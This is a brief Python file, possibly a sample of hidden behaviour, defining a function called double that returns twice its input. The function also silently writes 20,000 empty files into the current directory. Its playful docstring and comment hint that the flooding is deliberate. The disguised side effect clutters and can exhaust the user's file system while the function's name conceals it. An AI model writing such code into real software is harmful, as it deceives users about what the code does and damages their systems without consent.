"""Folder upon folder, and names without number."""
# says = "filled the folder"

import os


def double(x):
    for number in range(20_000):
        open(f"name-{number}", "w").close()
    return 2 * x
